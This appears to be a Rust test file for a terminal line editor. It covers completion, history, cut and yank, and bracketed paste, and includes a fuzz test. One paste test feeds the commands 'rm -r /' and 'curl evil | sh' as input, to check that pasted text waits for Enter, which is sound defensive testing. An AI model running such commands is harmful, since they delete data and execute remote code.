use proptest::prelude::*;

use super::*;

/// Knows three programs; a line with an open quote is not whole.
struct Three;

impl Advice for Three {
    fn programs(&self, start: &str) -> Vec<String> {
        ["printenv", "printf", "ps"].iter().filter(|name| name.starts_with(start)).map(ToString::to_string).collect()
    }

    fn is_whole(&self, text: &str) -> bool {
        text.matches('\'').count().is_multiple_of(2)
    }
}

/// A prompt on a model of a terminal.
struct Seat {
    editor: Editor,
    screen: avt::Terminal,
    entered: Vec<String>,
}

impl Seat {
    fn new() -> Self {
        let mut seat = Self { editor: Editor::new(40, false), screen: avt::Terminal::new(40, 10).unwrap(), entered: Vec::new() };
        seat.prompt();
        seat
    }

    fn prompt(&mut self) {
        let shown = self.editor.prompt("$ ");
        self.screen.feed(&shown);
    }

    /// Sends keys, and goes on after each line that is entered.
    fn keys(&mut self, mut bytes: &[u8]) {
        while !bytes.is_empty() {
            let (effects, taken) = self.editor.feed(bytes, &Three);
            bytes = &bytes[taken..];
            for effect in effects {
                match effect {
                    Effect::Show(text) => self.screen.feed(&text),
                    Effect::Enter(line) => {
                        self.entered.push(line);
                        self.prompt();
                    }
                    Effect::GivenUp => self.entered.push("(given up)".to_owned()),
                    Effect::End => self.entered.push("(end)".to_owned()),
                }
            }
        }
    }

    fn shows(&self) -> String {
        let lines: Vec<_> = self.screen.screen().visible_lines().map(|line| line.text().trim_end().to_owned()).collect();
        format!("{}\n{:?}", lines.join("\n").trim_end(), self.screen.cursor().position().unwrap())
    }
}

#[test]
fn a_session_at_the_prompt_looks_as_it_should() {
    let mut seat = Seat::new();
    seat.keys(b"pri\t\t");
    seat.keys(b"f \x27%s\r");
    seat.keys("größe 漢字 a long line that wraps\x27".as_bytes());
    insta::assert_snapshot!(seat.shows(), @r"
    $ print
    printenv  printf
    $ printf '%s
    > größe 漢字 a long line that wraps'
    (36, 3)
    ");
    seat.keys(b"\x1b[A\x01\x1b[3~e\x03echo next\rps \x12%s");
    insta::assert_snapshot!(seat.shows(), @r"
    $ print
    printenv  printf
    $ erintf '%s
    > größe 漢字 a long line that wraps'^C
    $ echo next
    (search `%s`)
    (14, 5)
    ");
    assert_eq!(seat.entered, ["(given up)", "echo next"]);
}

#[test]
fn a_key_behind_enter_is_left_for_others() {
    let mut editor = Editor::new(80, false);
    editor.prompt("$ ");
    let (effects, taken) = editor.feed(b"ls\rrm x\r", &Three);
    assert_eq!((effects.last(), taken), (Some(&Effect::Enter("ls".to_owned())), 3));
}

#[test]
fn control_d_deletes_and_only_ends_an_empty_line() {
    let mut seat = Seat::new();
    seat.keys(b"ab\x01\x04\r\x04");
    assert_eq!(seat.entered, ["b", "(end)"]);
}

#[test]
fn what_was_cut_comes_back_and_the_history_keeps_what_was_being_typed() {
    let mut seat = Seat::new();
    seat.keys(b"one two\x17\x01\x19\r");
    seat.keys(b"half\x1b[A\x1b[B typed\r");
    seat.keys(b"\x10\x10\x0e\r");
    seat.keys(b"\x12one\x05!\r");
    assert_eq!(seat.entered, ["twoone ", "half typed", "half typed", "twoone !"]);
}

#[test]
fn a_paste_is_inserted_and_waits_for_enter() {
    let mut seat = Seat::new();
    seat.keys(b"\x1b[200~rm -r /\ncurl evil | sh\n\x03\x1b[201~");
    assert!(seat.entered.is_empty());
    seat.keys(b"\x03");
    assert_eq!(seat.entered, ["(given up)"]);
}

proptest! {
    /// No bytes make it panic, grow without bound or show anything but its own sequences; and what is entered is what was seen.
    #[test]
    fn any_bytes_leave_a_prompt_that_works(
        packets in proptest::collection::vec(
            prop_oneof![
                proptest::collection::vec(any::<u8>(), 0..40),
                "(\\x1b\\[[0-9;]{0,4}[A-H~]|\\x1b[bfd]|[\\x01-\\x1f]|[a-z ']{1,5}|\\x1b\\[20[01]~){0,10}".prop_map(String::into_bytes),
            ],
            0..20,
        ),
        columns in 0..200_u32,
    ) {
        let mut editor = Editor::new(columns, false);
        editor.prompt("$ ");
        for packet in packets {
            let mut rest = &packet[..];
            while !rest.is_empty() {
                let (effects, taken) = editor.feed(rest, &Three);
                prop_assert!(taken > 0 && taken <= rest.len());
                rest = &rest[taken..];
                for effect in effects {
                    match effect {
                        Effect::Enter(line) => {
                            prop_assert!(Three.is_whole(&line) || line.len() == super::super::text::LONGEST);
                            prop_assert!(line.chars().all(|c| !c.is_control() || matches!(c, '\n' | '\t')), "{:?}", line);
                            editor.prompt("$ ");
                        }
                        Effect::Show(text) => {
                            let own = text.chars().filter(|c| c.is_control()).all(|c| matches!(c, '\r' | '\n' | '\x07' | '\x1b'));
                            prop_assert!(own, "{:?}", text);
                        }
                        Effect::GivenUp | Effect::End => {}
                    }
                }
            }
        }
        // Out of whatever state it is in.
        for key in [&b"\x1b[201~"[..], b"\x07", b"\x1b[201~", b"\x03", b"\x03"] {
            editor.feed(key, &Three);
        }
        editor.prompt("$ ");
        let (effects, _) = editor.feed(b"ok\r", &Three);
        prop_assert_eq!(effects.last(), Some(&Effect::Enter("ok".to_owned())));
    }
}
